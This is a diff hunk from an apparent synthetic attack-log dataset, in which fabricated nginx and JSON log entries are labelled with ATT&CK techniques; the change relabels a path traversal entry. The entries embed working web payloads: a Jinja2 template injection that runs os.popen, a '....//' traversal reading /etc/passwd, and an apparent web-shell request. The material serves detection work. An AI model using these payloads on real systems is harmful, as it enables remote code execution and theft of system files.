@@ -1550,7 +1550,7 @@ M(S, ngx(T(23, 21, 20, 0), "179.43.151.12", "GET /uploads/avatars/7731.php?c=cur
 M(S, ngx(T(23, 21, 22, 0), "179.43.151.12", "POST /tms/render HTTP/1.1", 200, 88, ua=CH, host="tms.ravenmoor.eu").replace('"POST /tms/render HTTP/1.1"', '"POST /tms/render?tpl=%7B%7B%20self.__init__.__globals__.__builtins__.__import__(%27os%27).popen(%27id%27).read()%20%7D%7D HTTP/1.1"'),
   "T1190", "Jinja2 server-side template injection running os.popen")
 M(S, ngx(T(23, 21, 25, 0), "103.251.167.20", "GET /portal/download?file=....//....//....//etc/passwd HTTP/1.1", 200, 2211, ua="Mozilla/5.0", rt="0.004"),
-  "T1083", "filter-evading ....// traversal reading /etc/passwd")
+  "T1190", "filter-evading ....// path traversal in the download endpoint reading /etc/passwd")
 M(S, wjson(T(23, 21, 30, 0), "77.91.124.60", "GET", "/portal/api/v2/me", 200, "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", size=812, session_id="s-7f1e..c92a", session_first_ip="86.131.44.125", geo="RU"),
   "T1550.004", "portal session cookie first issued to a UK office address replayed from a different country")
 M(S, ngx(T(23, 21, 40, 0), "10.212.40.21", "GET /api/internal/admin/export?all=true HTTP/1.1", 200, 210044120, ua="Wget/1.21.4", rt="88.120", host="paygw.rvm.internal"),
